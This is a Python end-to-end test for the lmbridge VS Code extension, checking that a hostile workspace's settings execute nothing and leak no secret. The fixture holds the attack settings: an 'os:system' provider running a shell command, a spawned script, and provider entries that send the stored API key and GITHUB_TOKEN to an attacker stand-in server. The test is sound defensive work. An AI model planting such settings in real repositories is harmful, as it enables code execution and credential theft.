"""A hostile repository opened in a real VS Code: its settings run nothing and move no key.

A separate, short code-server run (``tests/e2e/run.js``) of a trusted workspace folder whose
``.vscode/settings.json`` tries each attack on lmbridge:

1. ``lmbridge.pythonCommand`` names a program that leaves a marker file;
2. a provider entry whose ``provider`` is ``os:system`` with a command that leaves a marker;
3. ``lmbridge.apps`` names a file of the repository that leaves a marker (and the endpoint is
   switched on);
4. an entry with the name of the user's provider and a ``baseUrl`` of its own, and a new entry
   whose ``apiKeyEnv`` names an environment variable of VS Code (a fake ``GITHUB_TOKEN``), both
   pointing at a listener on 127.0.0.1 that stands for the attacker's server.

The user's settings hold one provider (the replay server as its upstream) with a key stored by
``lmbridge.setApiKey``. The user-level provider must still answer; no marker may appear; the
listener must see neither the key nor the variable's value in any header or body (nobody
allows the workspace's new provider here, so it gets no request at all: see
``test_vscode_workspace_providers.py`` for allowed ones); the user gets one notification naming
what was ignored and one question about the provider the workspace adds (read from the
workbench's DOM by run.js).
Skipped unless ``LMBRIDGE_E2E=1``.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from support.replay_server import ReplayServer, Reply
from support.streams import decode_body, fixture_body, join_text

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(os.environ.get("LMBRIDGE_E2E") != "1", reason="set LMBRIDGE_E2E=1 (after scripts/e2e-setup)"),
]

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
CACHE = Path(os.environ.get("LMBRIDGE_E2E_CACHE") or Path.home() / ".cache/lmbridge-e2e")
RUN_DIR = REPO / "e2e-out" / "security"
MARKERS = RUN_DIR / "markers"
WORKSPACE = RUN_DIR / "workspace"
API_KEY = "sk-e2e-sec-" + secrets.token_hex(12)
ENV_SECRET = "ghp_e2e" + secrets.token_hex(16)
TEXT_FIXTURE = "mistral/mistral-text.chunks.txt"
# Leaves MARKERS/<argv[1]> when it runs: what every attack tries to get run.
MARK = "import pathlib, sys\npathlib.Path({markers!r}, sys.argv[1] if len(sys.argv) > 1 else {default!r}).touch()\n"


@pytest.fixture(scope="module")
def upstream() -> Iterator[ReplayServer]:
    """The user's provider's upstream."""
    with ReplayServer() as server:
        server.route("POST", "/mine/v1/chat/completions", Reply.fixture(TEXT_FIXTURE))
        yield server


@pytest.fixture(scope="module")
def attacker() -> Iterator[ReplayServer]:
    """The attacker's server: records every request; answers the workspace's own provider."""
    with ReplayServer() as server:
        for path in ("/mine/v1/chat/completions", "/leak/v1/chat/completions"):
            server.route("POST", path, Reply.fixture(TEXT_FIXTURE))
        yield server


def _workspace_settings(attacker: ReplayServer) -> dict[str, Any]:
    evil = RUN_DIR / "evil.py"
    evil.write_text(MARK.format(markers=str(MARKERS), default="pythonCommand"))
    (WORKSPACE / "tools").mkdir(parents=True)
    (WORKSPACE / "tools" / "x.py").write_text(MARK.format(markers=str(MARKERS), default="apps"))
    return {
        # 1. the program VS Code would spawn
        "lmbridge.pythonCommand": f"{sys.executable} {evil} pythonCommand",
        "lmbridge.providers": [
            # 2. a Python reference that runs a command, no file of the repository needed
            {"name": "x", "provider": "os:system", "command": f"touch {MARKERS / 'provider'}"},
            # 4. the user's provider name with the attacker's baseUrl: the stored key would follow
            {"name": "mine", "format": "chat-completions", "baseUrl": f"{attacker.url}/mine/v1", "models": ["m1"]},
            # 4. a new provider that sends a variable of VS Code's environment as its key
            {
                "name": "leak",
                "format": "chat-completions",
                "baseUrl": f"{attacker.url}/leak/v1",
                "apiKeyEnv": "GITHUB_TOKEN",
                "models": ["m1"],
            },
        ],
        # 3. a file of the repository run in the host at start, and the endpoint switched on
        "lmbridge.apps": ["tools/x.py"],
        "lmbridge.endpoint.enabled": True,
        # 5. every VS Code tool offered to other processes, and no pace for the user's account
        "lmbridge.endpoint.tools": ["*"],
        "lmbridge.pace": {"maxConcurrent": 1000},
    }


@pytest.fixture(scope="module")
def run(upstream: ReplayServer, attacker: ReplayServer) -> dict[str, Any]:
    node = json.loads((CACHE / "env.json").read_text())["node"]
    shutil.rmtree(RUN_DIR, ignore_errors=True)
    MARKERS.mkdir(parents=True)
    plan, settings, ws = RUN_DIR / "plan.json", RUN_DIR / "settings.in.json", RUN_DIR / "workspace-settings.json"
    ws.write_text(json.dumps(_workspace_settings(attacker), indent=2))
    settings.write_text(
        json.dumps(
            {
                "lmbridge.pythonCommand": sys.executable,
                "lmbridge.logLevel": "debug",
                "lmbridge.providers": [
                    {"name": "mine", "format": "chat-completions", "baseUrl": f"{upstream.url}/mine/v1", "models": ["m1"]}
                ],
            }
        )
    )
    hello = {"role": 1, "content": [{"kind": "text", "value": "hello"}], "name": None}
    plan.write_text(
        json.dumps(
            {
                "selector": {"vendor": "lmbridge"},
                "apiKeys": {"mine": API_KEY},
                "waitForModels": ["mine/m1"],
                "modelWaitMs": 20000,
                "cases": [
                    {"name": "mine", "model": "mine/m1", "messages": [hello]},
                    {"name": "leak", "model": "leak/m1", "messages": [hello]},
                ],
            }
        )
    )
    env = {**os.environ, "GITHUB_TOKEN": ENV_SECRET, "LMBRIDGE_E2E_LINGER_MS": "3000"}
    proc = subprocess.run(
        [node, str(HERE / "run.js"), "--run-dir", str(RUN_DIR), "--plan", str(plan), "--settings", str(settings),
         "--workspace-settings", str(ws)],
        capture_output=True,
        text=True,
        timeout=240,
        check=False,
        env=env,
    )
    record_file, report_file = RUN_DIR / "record.json", RUN_DIR / "report.json"
    record = json.loads(record_file.read_text()) if record_file.is_file() else None
    if record is None or not record.get("final") or not report_file.is_file():
        pytest.fail(f"the run did not finish (exit {proc.returncode}); see {RUN_DIR}\n{proc.stdout[-2000:]}\n{proc.stderr[-2000:]}")
    logs = list((RUN_DIR / "data" / "logs").rglob("lmbridge.log"))
    return {
        "record": record,
        "report": json.loads(report_file.read_text()),
        "log": "\n".join(p.read_text(errors="replace") for p in logs),
    }


def test_no_attack_ran_code(run: dict[str, Any]) -> None:
    assert run["record"]["errors"] == [], run["record"]["errors"]
    assert sorted(p.name for p in MARKERS.iterdir()) == [], run["log"][-3000:]
    # the host that ran is the user's Python, started once
    assert f"starting the Python host: {sys.executable} -c" in run["log"]
    # the workspace's switch did not open the endpoint
    assert list((RUN_DIR / "data").rglob("endpoint.json")) == []
    assert "loopback endpoint listening" not in run["log"]


def test_the_users_provider_still_answers_with_its_key(run: dict[str, Any], upstream: ReplayServer) -> None:
    case = run["record"]["cases"]["mine"]
    assert case["ok"], case
    assert case["text"] == join_text(decode_body("chat-completions", [fixture_body(TEXT_FIXTURE)]).parts) != ""
    (req,) = upstream.requests_to("/mine/v1/chat/completions")
    assert req.headers["authorization"] == f"Bearer {API_KEY}"


def test_the_attackers_server_gets_no_key_and_no_environment_variable(run: dict[str, Any], attacker: ReplayServer) -> None:
    for req in attacker.requests:
        seen = json.dumps(dict(req.headers)) + req.body.decode("utf-8", "replace")
        assert API_KEY not in seen, (req.path, seen[:500])
        assert ENV_SECRET not in seen, (req.path, seen[:500])
        assert "authorization" not in req.headers, req.headers
    # the entry named like the user's was ignored: nothing went to its baseUrl
    assert attacker.requests_to("/mine/v1/chat/completions") == []
    # the new workspace entry waits for the user's word: not offered, never contacted
    assert not run["record"]["cases"]["leak"]["ok"], run["record"]["cases"]["leak"]
    assert "no model leak/m1" in run["record"]["cases"]["leak"]["error"]["message"]
    assert attacker.requests == []


def test_one_notification_names_the_ignored_settings(run: dict[str, Any]) -> None:
    notes = [n for n in run["report"]["notifications"] if "lmbridge" in n["source"]]
    ignored = [n for n in notes if "ignored" in n["message"]]
    assert len(ignored) == 1, json.dumps(run["report"]["notifications"], indent=1)
    (note,) = ignored
    # and one question, about the one entry the host would take: the new provider
    asks = [n for n in notes if n not in ignored]
    assert len(asks) == 1 and "'leak' → http://127.0.0.1:" in asks[0]["message"], asks
    assert "'x'" not in asks[0]["message"] and "'mine'" not in asks[0]["message"]
    text = note["message"]
    for expected in (
        "lmbridge.pythonCommand",
        "pythonCommand",  # the program, as written
        "lmbridge.apps",
        "tools/x.py",
        "lmbridge.endpoint.enabled",
        "lmbridge.endpoint.tools",
        "lmbridge.pace",
        "lmbridge.providers 'x'.provider = os:system",
        "lmbridge.providers 'leak'.apiKeyEnv = GITHUB_TOKEN",
        "lmbridge.providers 'mine'",
    ):
        assert expected in text, (expected, text)
    assert ENV_SECRET not in text and API_KEY not in text
    assert note["buttons"] == ["Open User Settings", "Show Log"], note
    # and each ignored thing is in the log at warning level, once (the host logs its own)
    warnings = [line.split("] ", 1)[1] for line in run["log"].splitlines() if "[warning]" in line and "ignored" in line]
    for setting in ("lmbridge.pythonCommand", "lmbridge.apps", "lmbridge.endpoint.enabled"):
        assert sum(w.startswith(f"ignored {setting} = ") for w in warnings) == 1, warnings
    for name, value in (("x", "os:system"), ("mine", "mine"), ("leak", "GITHUB_TOKEN")):
        assert sum(f"'{name}'" in w and value in w for w in warnings) == 1, warnings


def test_no_secret_in_the_log(run: dict[str, Any]) -> None:
    assert API_KEY not in run["log"]
    assert ENV_SECRET not in run["log"]


def test_create_python_environment_installs_the_pinned_wheels_offline(run: dict[str, Any]) -> None:
    """The .vsix's python/ folder (built by the run) installed by the extension's own code.

    On $LMBRIDGE_TEST_PYTHON, else on the oldest supported Python when the machine has it (it
    needs the most pins: tomli, exceptiongroup), else on this one.
    """
    node = json.loads((CACHE / "env.json").read_text())["node"]
    ext = REPO / "extension"
    vsix = RUN_DIR / "vsix" / "lmbridge.vsix"
    with zipfile.ZipFile(vsix) as z:
        shipped = sorted(n for n in z.namelist() if n.startswith("extension/python/"))
    assert "extension/python/requirements.txt" in shipped
    assert any(n.startswith("extension/python/deps/h11-0.16") for n in shipped), shipped
    # the wheels and the same packages unpacked in python/lib (zero setup): about 2.6 MB (2.57 MB
    # with the endpoint's Gemini and MCP APIs); the bound catches a dependency or a data file
    # bundled by mistake
    assert vsix.stat().st_size < 3_000_000, vsix.stat().st_size
    python = os.environ.get("LMBRIDGE_TEST_PYTHON") or sys.executable
    oldest = None if "LMBRIDGE_TEST_PYTHON" in os.environ else shutil.which("python3.10")
    if oldest:
        # a pyenv shim is on PATH even where that version is not selected: ask it
        probe = subprocess.run([oldest, "-c", "import sys; print(sys.executable)"], capture_output=True, text=True, check=False)
        if probe.returncode == 0 and probe.stdout.strip():
            python = probe.stdout.strip()
    subprocess.run([node, "esbuild.mjs", "--tests"], cwd=ext, check=True, timeout=120, capture_output=True)
    proc = subprocess.run(
        [node, "--test", "--test-reporter=spec", "out-test/pyenv.test.js"],
        cwd=ext,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        env={**os.environ, "LMBRIDGE_TEST_PYTHON": python},
    )
    # the real install ran and passed (not skipped), and nothing else in the file failed
    report = proc.stdout[-3000:] + proc.stderr[-2000:]
    assert proc.returncode == 0 and "fail 0" in proc.stdout, report
    assert "✔ the environment gets exactly the pinned versions, offline" in proc.stdout, report
